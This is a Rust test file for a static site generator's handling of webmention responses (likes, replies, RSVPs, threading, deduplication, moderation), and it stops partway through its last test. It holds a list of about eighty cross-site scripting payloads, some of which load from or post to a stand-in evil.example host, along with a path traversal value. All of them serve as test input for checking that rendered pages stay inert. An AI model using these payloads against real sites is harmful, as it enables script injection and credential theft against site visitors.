//! Responses from other sites on a post's page: order, threads, repeats, moderation, and that
//! nothing a stranger sends can change the page.

use std::fmt::Write as _;

use serde_json::{Value, json};

use crate::dom::{Element, Page};
use crate::harness::SiteTest;
use crate::pictures::png;

const POST: &str = "https://test.example/notes/post/";

struct Mentions {
    site: SiteTest,
    next: u64,
}

impl Mentions {
    fn new() -> Self {
        Self::on(SiteTest::new())
    }

    fn on(site: SiteTest) -> Self {
        Self { site: site.note("content/notes/post.md", "The post"), next: 1 }
    }

    fn add(self, mention: &Value) -> Self {
        let path = format!("data/mentions/notes/post/{:016x}.json", self.next);
        Self { site: self.site.file(&path, &mention.to_string()), next: self.next + 1 }
    }

    fn page(&self) -> Page {
        self.site.build();
        Page::parse(&self.site.out("notes/post/index.html"))
    }
}

/// A mention of a kind from an address, with more keys.
fn mention(property: &str, source: &str, more: Value) -> Value {
    let mut value = json!({
        "type": "entry",
        "url": source,
        "wm-source": source,
        "wm-target": POST,
        "wm-property": property,
        "wm-received": "2024-05-10T10:00:00Z",
    });
    let object = value.as_object_mut().unwrap();
    if property != "rsvp" {
        object.insert(property.to_owned(), json!(POST));
    }
    if let Value::Object(more) = more {
        object.extend(more);
    }
    value
}

fn reply(name: &str, published: &str, text: &str) -> Value {
    let host = name.to_lowercase();
    mention(
        "in-reply-to",
        &format!("https://{host}.example/r"),
        json!({
            "author": { "name": name, "url": format!("https://{host}.example/") },
            "published": published,
            "content": { "text": text },
        }),
    )
}

fn answering(mut reply: Value, source: &str, target: &str) -> Value {
    reply["url"] = json!(source);
    reply["wm-source"] = json!(source);
    reply["in-reply-to"] = json!([target, POST]);
    reply
}

/// The names of the authors of replies in the order of the page.
fn authors(page: &Page) -> Vec<String> {
    page.texts("li.u-comment p.says .p-name")
}

#[test]
fn without_responses_there_is_no_section() {
    assert_eq!(Mentions::new().page().all(".responses").len(), 0);
}

#[test]
fn faces_are_grouped_and_newest_first() {
    let like = |name: &str, at: &str| {
        mention(
            "like-of",
            &format!("https://{name}.example/l"),
            json!({ "author": { "name": name }, "published": at }),
        )
    };
    let page = Mentions::new()
        .add(&like("bea", "2024-05-01T10:00:00Z"))
        .add(&like("cem", "2024-05-03T10:00:00Z"))
        .add(&like("dan", "2024-05-02T10:00:00Z"))
        .add(&mention("repost-of", "https://eva.example/r", json!({ "author": { "name": "eva" } })))
        .add(&mention(
            "bookmark-of",
            "https://fay.example/b",
            json!({ "author": { "name": "fay" } }),
        ))
        .page();
    assert_eq!(page.texts(".u-like .p-name"), ["cem", "dan", "bea"]);
    assert_eq!(page.texts(".u-repost .p-name"), ["eva"]);
    assert_eq!(page.texts(".u-bookmark .p-name"), ["fay"]);
    assert_eq!(page.texts("details.names summary"), ["3 likes", "1 repost", "1 bookmark"]);
    assert_eq!(page.texts("details.names li"), ["cem", "dan", "bea", "eva", "fay"]);
    assert_eq!(page.texts(".responses h2"), ["5 responses"]);
    assert_eq!(page.all("article.h-entry .u-like").len(), 3, "inside the post's root");
    assert_eq!(page.all(".u-like.h-cite").len(), 3);
    assert_eq!(page.all(".e-content .u-like").len(), 0, "outside its content");
}

#[test]
fn faces_come_from_the_site_and_never_from_elsewhere() {
    let site = SiteTest::new().bytes("data/avatars/bea.png", &png());
    let face = |name: &str, photo: &str| {
        mention(
            "like-of",
            &format!("https://{name}.example/l"),
            json!({ "author": { "name": name, "photo": photo } }),
        )
    };
    let all = Mentions::on(site)
        .add(&face("bea", "avatars/bea.png"))
        .add(&face("cem", "https://cdn.example/cem.png"))
        .add(&face("dan", "avatars/missing.png"))
        .add(&face("eva", "//cdn.example/eva.png"))
        .add(&face("fay", "avatars/../../lanai.toml"));
    let page = all.page();
    assert_eq!(page.values(".u-like img", "src"), ["/avatars/bea.png"]);
    assert_eq!(page.values(".u-like img", "alt"), ["bea"]);
    assert!(all.site.has("avatars/bea.png"));
}

#[test]
fn answers_to_an_invitation_are_grouped_by_answer() {
    let rsvp = |name: &str, answer: &str| {
        mention(
            "rsvp",
            &format!("https://{name}.example/r"),
            json!({ "author": { "name": name, "url": format!("https://{name}.example/") }, "rsvp": answer }),
        )
    };
    let site = SiteTest::new();
    let mut all = Mentions::on(site);
    all.site.write(
        "content/notes/post.md",
        "+++\ntitle = \"Party\"\ndate = 2024-05-01\nstart = 2024-08-01T18:00:00Z\n+++\nCome\n",
    );
    for (name, answer) in [
        ("bea", "yes"),
        ("cem", "no"),
        ("dan", "YES"),
        ("eva", "maybe"),
        ("fay", "interested"),
        ("gil", "perhaps"),
    ] {
        all = all.add(&rsvp(name, answer));
    }
    let page = all.page();
    let groups: Vec<String> = page.texts("details.names summary");
    assert_eq!(groups, ["2 going", "1 maybe", "1 interested", "1 not going"]);
    assert_eq!(
        page.values(".u-rsvp .p-rsvp", "value"),
        ["yes", "yes", "maybe", "interested", "no"]
    );
    assert_eq!(page.all(".p-attendee").len(), 2, "who comes is an attendee");
    // An answer that is none is shown as an answer, not lost; the heading counts what is shown.
    let heading: usize = page.texts(".responses h2")[0].split(' ').next().unwrap().parse().unwrap();
    let shown =
        page.all(".u-rsvp").len() + page.all(".u-comment").len() + page.all(".u-mention").len();
    assert_eq!(heading, shown, "MF-M-15");
}

#[test]
fn replies_are_oldest_first_and_ties_go_by_address() {
    let page = Mentions::new()
        .add(&reply("Dan", "2024-05-03T10:00:00Z", "third"))
        .add(&reply("Cem", "2024-05-02T10:00:00Z", "tie c"))
        .add(&reply("Bea", "2024-05-02T12:00:00+02:00", "tie b"))
        .add(&reply("Eva", "2024-05-01T10:00:00Z", "first"))
        .page();
    assert_eq!(authors(&page), ["Eva", "Bea", "Cem", "Dan"]);
}

#[test]
fn a_reply_without_a_date_stands_by_the_time_it_came() {
    let mut late = reply("Bea", "x", "no date");
    late.as_object_mut().unwrap().remove("published");
    let page = Mentions::new()
        .add(&late)
        .add(&reply("Cem", "2024-05-09T10:00:00Z", "before"))
        .add(&reply("Dan", "2024-05-11T10:00:00Z", "after"))
        .page();
    assert_eq!(authors(&page), ["Cem", "Bea", "Dan"]);
    assert_eq!(
        page.all(".u-comment .dt-published").len(),
        2,
        "received is not published (MF-M-11)"
    );
}

#[test]
fn replies_nest_to_the_depth_and_go_on_flat() {
    let config = "[lists]\nresponses-depth = 3\n";
    let mut all = Mentions::on(SiteTest::with_config(config));
    let url = |n: usize| format!("https://p{n}.example/r");
    for n in 0..7 {
        let made = reply(
            &format!("P{n}"),
            &format!("2024-05-0{}T10:00:00Z", n + 1),
            &format!("number {n}"),
        );
        all = all.add(&match n {
            0 => made,
            n => answering(made, &url(n), &url(n - 1)),
        });
    }
    let page = all.page();
    let depth = |element: &&Element| page.depth_of(element, "li.u-comment");
    let depths: Vec<usize> = page.all("li.u-comment").iter().map(depth).collect();
    assert_eq!(depths, [0, 1, 2, 2, 2, 2, 2]);
    assert_eq!(authors(&page), ["P0", "P1", "P2", "P3", "P4", "P5", "P6"]);
    let html = all.site.out("notes/post/index.html");
    for n in 2..6 {
        assert!(
            html.contains(&format!("in reply to P{n}"))
                || html.contains(&format!("In reply to P{n}")),
            "P{n} is named"
        );
    }
    assert_eq!(page.texts(".responses h2"), ["7 responses"]);
    assert_eq!(page.texts("li.u-comment summary")[0], "6 answers");
}

#[test]
fn siblings_keep_their_order_below_a_reply() {
    let parent = "https://bea.example/r";
    let child = |name: &str, at: &str| {
        let host = name.to_lowercase();
        answering(reply(name, at, "child"), &format!("https://{host}.example/r"), parent)
    };
    let page = Mentions::new()
        .add(&child("Eva", "2024-05-05T10:00:00Z"))
        .add(&child("Dan", "2024-05-04T10:00:00Z"))
        .add(&reply("Bea", "2024-05-01T10:00:00Z", "parent"))
        .add(&reply("Cem", "2024-05-02T10:00:00Z", "beside"))
        .page();
    assert_eq!(authors(&page), ["Bea", "Dan", "Eva", "Cem"]);
}

#[test]
fn answers_nested_in_a_mention_file_are_shown_below_it() {
    let mut parent = reply("Bea", "2024-05-01T10:00:00Z", "parent");
    parent["children"] = json!([
        { "type": "entry", "url": "https://cem.example/r", "wm-source": "https://cem.example/r", "wm-property": "in-reply-to",
          "in-reply-to": "https://bea.example/r", "author": { "name": "Cem" }, "content": { "text": "child" }, "published": "2024-05-02T10:00:00Z" },
    ]);
    let page = Mentions::new().add(&parent).page();
    assert_eq!(authors(&page), ["Bea", "Cem"]);
    assert_eq!(page.all("li.u-comment li.u-comment").len(), 1);
}

#[test]
fn a_response_is_shown_once_however_often_it_comes() {
    let original = reply("Bea", "2024-05-01T10:00:00Z", "hello");
    // The same address through another source file.
    let again = original.clone();
    // The copy elsewhere comes by a bridge of its own, before or after the original.
    let mut with_copy = original.clone();
    with_copy["syndication"] = json!(["https://social.example/@bea/1"]);
    let mut copy = reply("Bea", "2024-05-01T10:00:00Z", "hello");
    copy["url"] = json!("https://social.example/@bea/1");
    copy["wm-source"] = json!("https://social.example/@bea/1");
    let mut copy_naming_original = copy.clone();
    copy_naming_original["syndication"] = json!(["https://bea.example/r"]);
    for list in [
        vec![&original, &again],
        vec![&with_copy, &copy],
        vec![&copy, &with_copy],
        vec![&original, &copy_naming_original],
        vec![&copy_naming_original, &original],
    ] {
        let all = list.iter().fold(Mentions::new(), |all, mention| all.add(mention));
        let page = all.page();
        assert_eq!(authors(&page), ["Bea"], "{list:?}");
        assert_eq!(page.texts(".responses h2"), ["1 response"]);
    }
}

#[test]
fn the_sites_own_pages_do_not_mention_it() {
    let config = "former-urls = [\"https://old.example\"]\n";
    let page = Mentions::on(SiteTest::with_config(config))
        .add(&mention("mention-of", "https://test.example/notes/other/", json!({ "name": "Own" })))
        .add(&mention("mention-of", "http://test.example/notes/other/", json!({ "name": "Own" })))
        .add(&mention("mention-of", "https://old.example/notes/other/", json!({ "name": "Own" })))
        .page();
    assert_eq!(page.all(".responses").len(), 0);
}

#[test]
fn the_owners_answers_stand_in_the_thread() {
    let site = SiteTest::with_config("[author]\nname = \"Ana\"\n").file(
        "content/replies/r.md",
        "+++\ndate = 2024-05-02T10:00:00Z\nin-reply-to = \"https://bea.example/r\"\n+++\nThank you [^1] *Bea*\n\n[^1]: foot\n",
    );
    let all =
        Mentions::on(site).add(&reply("Bea", "2024-05-01T10:00:00Z", "hello")).add(&answering(
            reply("Cem", "2024-05-03T10:00:00Z", "me too"),
            "https://cem.example/r",
            "https://test.example/replies/r/",
        ));
    let page = all.page();
    assert_eq!(authors(&page), ["Bea", "Ana", "Cem"]);
    assert_eq!(page.texts(".responses h2"), ["3 responses"]);
    assert!(page.texts("li.u-comment .e-content").iter().any(|text| text.starts_with("Thank you")));
    let ids: Vec<String> =
        page.elements.iter().filter_map(|e| e.get("id")).map(str::to_owned).collect();
    let mut once = ids.clone();
    once.sort();
    once.dedup();
    assert_eq!(ids.len(), once.len(), "ids are unique: {ids:?}");
}

#[test]
fn who_is_blocked_or_muted_vanishes_at_the_next_build() {
    let nested = {
        let mut value = reply("Bea", "2024-05-01T10:00:00Z", "hello");
        value["children"] = json!([
            { "type": "entry", "url": "https://troll.example/c", "in-reply-to": "https://bea.example/r", "wm-property": "in-reply-to",
              "author": { "name": "Troll", "url": "https://troll.example/" }, "content": { "text": "nested" } },
        ]);
        value
    };
    let all = Mentions::new()
        .add(&nested)
        .add(&reply("Troll", "2024-05-02T10:00:00Z", "boo"))
        .add(&mention(
            "like-of",
            "https://sub.spam.example/l",
            json!({ "author": { "name": "Spam" } }),
        ))
        .add(&mention(
            "like-of",
            "https://bridge.example/l",
            json!({ "author": { "name": "Muted", "url": "https://muted.example/" } }),
        ));
    assert_eq!(all.page().texts(".responses h2"), ["5 responses"]);
    all.site.write(
        "data/moderation.toml",
        "[[block]]\nurl = \"https://troll.example\"\nreason = \"rude\"\n[[block]]\ndomain = \"spam.example\"\nsince = 2024-05-01\n[[mute]]\nurl = \"https://muted.example/\"\n",
    );
    let page = all.page();
    assert_eq!(page.texts(".responses h2"), ["1 response"]);
    let html = all.site.out("notes/post/index.html");
    for gone in ["Troll", "Spam", "Muted", "nested"] {
        assert!(!html.contains(gone), "{gone}");
    }
    assert!(!all.site.out("index.html").contains("5 responses"));
}

#[test]
fn words_and_links_can_be_ruled_out_and_rules_end() {
    let site = SiteTest::with_config("time-zone = \"Europe/Berlin\"\n").at("2024-06-30T21:59:00Z");
    let linked = "one https://a.example/ two https://b.example/ three https://c.example/";
    let mut all = Mentions::on(site)
        .add(&reply("Bea", "2024-05-01T10:00:00Z", "hello"))
        .add(&reply("Cem", "2024-05-02T10:00:00Z", "win at the cаsino"))
        .add(&reply("Dan", "2024-05-03T10:00:00Z", linked))
        .add(&reply("Eve", "2024-05-04T10:00:00Z", "held words"));
    all.site.write(
        "data/moderation.toml",
        "[[block]]\nwords = [\"casino\", \"payday loan\"]\n[[mute]]\nlinks = 2\nuntil = 2024-06-30\n\
         [[hold]]\nwords = \"held\"\n[[approve]]\nurl = \"https://bea.example/\"\nhost = \"brid.gy\"\n\
         [[subscribe]]\nurl = \"https://lists.example/block.txt\"\n",
    );
    // What waits was published by the owner, or it would not be in the folder.
    assert_eq!(authors(&all.page()), ["Bea", "Eve"]);
    all.site = all.site.at("2024-06-30T22:00:00Z");
    assert_eq!(authors(&all.page()), ["Bea", "Dan", "Eve"]);
}

#[test]
fn the_host_that_brought_it_is_named_where_it_is_not_the_authors() {
    let mut bridged = reply("Bea", "2024-05-01T10:00:00Z", "hello");
    bridged["wm-source"] = json!("https://bridge.example/x/1");
    bridged["url"] = json!("https://bea.example/r");
    let mut verified = reply("Cem", "2024-05-02T10:00:00Z", "hello");
    verified["author"]["verified"] = json!(true);
    let page = Mentions::new().add(&bridged).add(&verified).page();
    let whence = page.texts("li.u-comment .whence");
    // An address at another host than the source's is not believed (MF-M-08).
    assert_eq!(
        page.values("li.u-comment .whence a.u-url", "href"),
        ["https://bridge.example/x/1", "https://cem.example/r"]
    );
    assert!(
        whence[0].contains("bridge.example") && whence[0].contains("not verified"),
        "{whence:?}"
    );
    assert!(whence[1].contains('✓') && !whence[1].contains("not verified"), "{whence:?}");
}

#[test]
fn a_missing_author_is_the_host() {
    let page = Mentions::new()
        .add(&mention(
            "in-reply-to",
            "https://nobody.example/r",
            json!({ "content": { "text": "hi there" } }),
        ))
        .add(&mention("like-of", "https://quiet.example/l", json!({})))
        .add(&mention(
            "like-of",
            "https://blank.example/l",
            json!({ "author": { "name": "  ", "url": "https://blank.example/" } }),
        ))
        .page();
    assert_eq!(authors(&page), ["nobody.example"]);
    let mut faces = page.texts(".u-like .p-name");
    faces.sort();
    assert_eq!(faces, ["blank.example", "quiet.example"]);
}

#[test]
fn mentions_show_a_name_or_an_excerpt_or_the_host() {
    let page = Mentions::new()
        .add(&mention("mention-of", "https://a.example/1", json!({ "name": "A page", "content": { "text": "It says things." }, "published": "2024-05-03" })))
        .add(&mention("mention-of", "https://b.example/1", json!({ "content": { "text": "Only text" }, "published": "2024-05-02" })))
        .add(&mention("mention-of", "https://c.example/1", json!({ "published": "2024-05-01" })))
        .page();
    assert_eq!(
        page.texts(".u-mention a.u-url.p-name")
            .iter()
            .map(String::as_str)
            .filter(|t| t.contains(' '))
            .collect::<Vec<_>>(),
        ["A page", "Only text"]
    );
    assert_eq!(page.all(".u-mention").len(), 3);
    assert!(page.texts(".u-mention")[2].contains("c.example"));
    assert_eq!(page.texts(".u-mention .p-content"), ["It says things."]);
}

#[test]
fn a_single_emoji_is_a_reaction() {
    let page = Mentions::new()
        .add(&reply("Bea", "2024-05-01T10:00:00Z", "❤️"))
        .add(&reply("Cem", "2024-05-01T10:00:00Z", "❤️"))
        .add(&reply("Dan", "2024-05-01T10:00:00Z", "👩‍👩‍👧"))
        .add(&reply("Eva", "2024-05-01T10:00:00Z", "❤️ this"))
        .page();
    assert_eq!(authors(&page), ["Eva"]);
    assert_eq!(page.values("li.u-comment .p-content", "value").len(), 3);
    assert_eq!(page.texts(".responses h2"), ["4 responses"]);
}

#[test]
fn a_long_text_is_cut_and_linked() {
    let long = "many words ".repeat(200);
    let page = Mentions::new().add(&reply("Bea", "2024-05-01T10:00:00Z", &long)).page();
    let text = page.texts("li.u-comment .e-content").remove(0);
    assert!(text.chars().count() <= 1001 && text.chars().count() > 900, "{}", text.chars().count());
    assert!(
        page.values("li.u-comment p a", "href")
            .iter()
            .filter(|h| *h == "https://bea.example/r")
            .count()
            >= 2
    );
}

/// What strangers have tried, and more.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/track.gif\" width=1 height=1>",
    "<img srcset=\"https://evil.example/a.png 2x\">",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav\nascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"//evil.example/\" onclick=alert(1)>x</a>",
    "<a href=\"https://x.example/\" target=_top style=\"position:fixed;inset:0\" class=\"u-url\" id=main>x</a>",
    "<a href=\"https://x.example/\" rel=\"me author\">x</a>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<div class=\"h-card\"><a class=\"u-url\" rel=\"me\" href=\"https://evil.example/\">x</a></div>",
    "<div class=\"h-entry\"><p class=\"e-content p-name\">fake</p></div>",
    "<p id=\"main\">x</p><p id=\"responses\">y</p>",
    "<form action=\"https://evil.example/\"><input name=p type=password><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>x</select>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=\"https://evil.example/x.mp4\" onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<link rel=webmention href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<base href=\"https://evil.example/\">",
    "<style>body{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<plaintext>everything after",
    "<xmp><script>alert(1)</script></xmp>",
    "</div></article></main></body></html>",
    "</p></div></li></ol></section><h1>Defaced</h1>",
    "<table><tr><td background=\"https://evil.example/x\">x</table>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<button onclick=alert(1) formaction=javascript:alert(1)>x</button>",
    "<custom-element is=x onmouseover=alert(1)>x</custom-element>",
    "<p onmouseover='alert(1)'>x</p>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "{{ site.title }}{% for x in y %}",
    "{{7*7}}${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<p>unclosed <b><i><blockquote><ul><li>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<a href=\"https://x.example/\u{202E}gpj.exe\">x</a>",
    "\u{2028}\u{2029}<img src=x onerror=alert(1)//",
    "<a href='https://x.example/?a=\"onclick=\"alert(1)'>x</a>",
];

/// What no page may have, wherever it came from.
fn assert_inert(page: &Page, what: &str) {
    for element in &page.elements {
        for (name, value) in &element.attributes {
            assert!(!name.starts_with("on"), "{what}: {name}={value}");
            let squeezed: String = value
                .chars()
                .filter(|c| !c.is_whitespace() && !c.is_control())
                .collect::<String>()
                .to_lowercase();
            if [
                "href",
                "src",
                "action",
                "formaction",
                "data",
                "poster",
                "srcset",
                "cite",
                "xlink:href",
            ]
            .contains(&name.as_str())
            {
                for scheme in ["javascript:", "data:", "vbscript:"] {
                    assert!(!squeezed.starts_with(scheme), "{what}: {name}={value}");
                }
            }
            if ["src", "srcset", "poster", "data", "background"].contains(&name.as_str()) {
                assert!(
                    value.starts_with('/') && !value.starts_with("//"),
                    "{what}: {name}={value} is loaded"
                );
            }
            assert_ne!(name, "style", "{what}");
        }
    }
}

/// Names, classes, ids and places of all elements that responses do not bring along themselves.
fn skeleton(page: &Page) -> Vec<String> {
    let own = [
        "a",
        "p",
        "br",
        "em",
        "strong",
        "b",
        "i",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "del",
    ];
    page.elements
        .iter()
        .filter(|element| {
            let inside = page.depth_of(element, ".e-content") > 0
                && page.depth_of(element, ".u-comment") > 0;
            if inside {
                assert!(own.contains(&element.name.as_str()), "{element:?}");
                let names: Vec<&str> =
                    element.attributes.iter().map(|(name, _)| name.as_str()).collect();
                assert!(names.iter().all(|name| ["href", "rel"].contains(name)), "{element:?}");
                if element.name == "a" && element.get("href").is_some() {
                    assert_eq!(element.get("rel"), Some("nofollow ugc noopener"));
                }
            }
            !inside
        })
        .map(|e| format!("{} {:?} {:?}", e.name, e.get("class"), e.get("rel")))
        .collect()
}

fn hostile_mention(property: &str, n: usize, text: &str, html: bool) -> Value {
    let source = format!("https://h{n}.example/{property}");
    let mut value = mention(
        property,
        &source,
        json!({
            "author": { "name": text, "url": text, "photo": text },
            "published": "2024-05-01T10:00:00Z",
            "syndication": [text],
            "rsvp": "yes",
            "summary": text,
        }),
    );
    value["content"] = if html { json!({ "html": text }) } else { json!({ "text": text }) };
    if property == "mention-of" {
        value["name"] = json!(text);
    }
    value
}

/// The same responses with the harmless words that are as long.
fn page_with(property: &str, html: bool, text: impl Fn(usize) -> String) -> (Page, String) {
    let mut all = Mentions::new();
    for n in 0..HOSTILE.len() {
        all = all.add(&hostile_mention(property, n, &text(n), html));
    }
    let page = all.page();
    let html = all.site.out("notes/post/index.html");
    for (name, bytes) in all.site.all() {
        if name.ends_with(".html") {
            assert_inert(&Page::parse(&String::from_utf8(bytes).unwrap()), &name);
        }
    }
    (page, html)
}

#[test]
fn hostile_responses_are_inert_in_every_place() {
    assert!(HOSTILE.len() >= 60);
    for property in ["in-reply-to", "like-of", "repost-of", "bookmark-of", "rsvp", "mention-of"] {
        for html in [true, false] {
            let (page, text) = page_with(property, html, |n| HOSTILE[n].to_owned());
            assert_eq!(page.all("script").len(), 1, "JSON-LD alone: {property}");
            assert_eq!(page.all("script")[0].get("type"), Some("application/ld+json"));
            for tag in [
                "iframe", "object", "embed", "svg", "math", "form", "video", "audio", "style",
                "base", "template",
            ] {
                assert_eq!(page.all(&format!(".responses {tag}")).len(), 0, "{property} {tag}");
            }
            assert_eq!(page.all(".responses img").len(), 0, "{property}");
            assert_eq!(page.all("main").len(), 1);
            assert_eq!(page.all("h1").len(), 1);
            assert!(!text.contains('\u{0}'));
            // Nothing claims to be the owner, or the page's own properties.
            for rel in page.values(".responses a", "rel") {
                assert!(
                    rel.split(' ').all(|word| ["nofollow", "ugc", "noopener"].contains(&word)),
                    "{rel}"
                );
            }
            for href in page.values(".responses a", "href") {
                assert!(href.starts_with("https://") || href.starts_with("http://"), "{href}");
            }
        }
    }
}

#[test]
fn hostile_responses_leave_the_page_as_harmless_ones_do() {
    for property in ["in-reply-to", "like-of", "rsvp", "mention-of"] {
        for html in [true, false] {
            let (hostile, _) = page_with(property, html, |n| HOSTILE[n].to_owned());
            let (harmless, _) = page_with(property, html, |n| format!("harmless {n}"));
            let outside = |page: &Page| {
                let all = skeleton(page).into_iter();
                // Responses without a text have no element for it, and texts of one address no name.
                all.filter(|line| !line.contains("e-content") && !line.contains("p-content"))
                    .collect::<Vec<_>>()
            };
            let classes = |lines: Vec<String>| {
                let mut lines = lines;
                lines.sort();
                lines.dedup();
                lines
            };
            assert_eq!(
                classes(outside(&hostile)),
                classes(outside(&harmless)),
                "{property} {html}"
            );
        }
    }
}

#[test]
fn text_stays_readable_when_it_looks_like_markup() {
    let mut named = reply("Bea", "2024-05-01T10:00:00Z", "if a < b && c > d: \"fine\"\nnext line");
    named["author"]["name"] = json!("<b>Bea</b>");
    let page = Mentions::new().add(&named).page();
    assert_eq!(authors(&page), ["<b>Bea</b>"]);
    let content = page.one("li.u-comment .e-content");
    assert!(content.text.contains("if a < b && c > d: \"fine\""));
    assert_eq!(page.all("li.u-comment .e-content br").len(), 1);
}

#[test]
fn circles_of_replies_are_shown_once_each() {
    let at = "2024-05-01T10:00:00Z";
    let (a, b, c) = ("https://a.example/r", "https://b.example/r", "https://c.example/r");
    let page = Mentions::new()
        .add(&answering(reply("A", at, "a"), a, c))
        .add(&answering(reply("B", at, "b"), b, a))
        .add(&answering(reply("C", at, "c"), c, b))
        .add(&answering(reply("D", at, "d"), "https://d.example/r", "https://d.example/r"))
        .page();
    let mut names = authors(&page);
    names.sort();
    assert_eq!(names, ["A", "B", "C", "D"]);
    assert_eq!(page.texts(".responses h2"), ["4 responses"]);
}

#[test]
fn chains_of_five_thousand_replies_are_no_problem() {
    let site = SiteTest::with_config("[lists]\nresponses-depth = 10\n");
    let mut all = Mentions::on(site);
    for n in 0..5000 {
        let url = format!("https://x.example/{n}");
        let above = format!("https://x.example/{}", n + 1);
        all = all.add(&answering(reply("X", "2024-05-01T10:00:00Z", "deep"), &url, &above));
    }
    let page = all.page();
    let replies = page.all("li.u-comment");
    assert_eq!(replies.len(), 5000);
    assert_eq!(replies.iter().map(|e| page.depth_of(e, "li.u-comment")).max(), Some(9));
}

#[test]
fn nobody_can_ask_for_endless_nesting() {
    let site = SiteTest::with_config("[lists]\nresponses-depth = 100000\n")
        .note("content/notes/a.md", "x");
    assert!(site.rendered_problems().contains("responses-depth"));
}

#[test]
fn deeply_nested_files_are_no_problem() {
    let mut text = String::from(
        "{\"wm-source\":\"https://x.example/1\",\"wm-target\":\"https://test.example/notes/post/\"",
    );
    for n in 0..5000 {
        write!(text, ",\"children\":[{{\"url\":\"https://x.example/c{n}\"").unwrap();
    }
    text.push_str(&"}]".repeat(5000));
    text.push('}');
    let site = SiteTest::new()
        .note("content/notes/post.md", "x")
        .file("data/mentions/notes/post/0123456789abcdef.json", &text);
    let problems = site.rendered_problems();
    assert!(problems.contains("data/mentions/notes/post/0123456789abcdef.json"), "{problems}");
}

#[test]
fn targets_are_found_by_every_address_of_the_post() {
    for target in [
        "https://test.example/notes/post/",
        "https://test.example/notes/post",
        "http://test.example/notes/post/",
        "https://test.example/notes/post/#comments",
        "https://test.example/notes/post/?utm_source=x",
        "https://test.example/notes/post/index.html",
        "https://TEST.example/notes/post/",
        "https://test.example/old/address/",
        "https://test.example/old.html",
        "https://former.example/notes/post/",
        "https://former.example/old/address/",
        "https://test.example/notes/po%73t/",
    ] {
        let site = SiteTest::with_config("former-urls = [\"https://former.example\"]\n");
        let mut value = reply("Bea", "2024-05-01T10:00:00Z", "hello");
        value["wm-target"] = json!(target);
        value["in-reply-to"] = json!(target);
        let all = Mentions::on(site).add(&value);
        all.site.write(
            "content/notes/post.md",
            "+++\ndate = 2024-05-01\naliases = [\"/old/address/\", \"/old.html\"]\n+++\nThe post\n",
        );
        assert_eq!(authors(&all.page()), ["Bea"], "{target}");
    }
    for target in [
        "https://other.example/notes/post/",
        "https://test.example/notes/",
        "https://test.example/notes/post/more/",
    ] {
        let mut value = reply("Bea", "2024-05-01T10:00:00Z", "hello");
        value["wm-target"] = json!(target);
        value["in-reply-to"] = json!(target);
        assert_eq!(authors(&Mentions::new().add(&value).page()), Vec::<String>::new(), "{target}");
    }
}

#[test]
fn a_post_that_receives_nothing_shows_nothing() {
    let all = Mentions::new().add(&reply("Bea", "2024-05-01T10:00:00Z", "hello"));
    all.site.write(
        "content/notes/post.md",
        "+++\ndate = 2024-05-01\nmentions = \"send\"\n+++\nThe post\n",
    );
    assert_eq!(all.page().all(".responses").len(), 0);
}

#[test]
fn a_mention_in_a_foreign_preview_address_is_still_found() {
    // The preview builds for another address than the one that was mentioned.
    let all = Mentions::new().add(&reply("Bea", "2024-05-01T10:00:00Z", "hello"));
    let mut options = all.site.options();
    options.base = lanai::model::Base::new(url::Url::parse("http://127.0.0.1:4000/").unwrap());
    lanai::build::build(all.site.root(), &options, &lanai::build::Silent).unwrap();
    assert_eq!(authors(&Page::parse(&all.site.out("notes/post/index.html"))), ["Bea"]);
}

#[test]
fn nobody_fills_the_page_with_a_name() {
    let long = "endless ".repeat(20_000);
    let mut all = Mentions::new();
    for (n, property) in ["in-reply-to", "like-of", "mention-of"].into_iter().enumerate() {
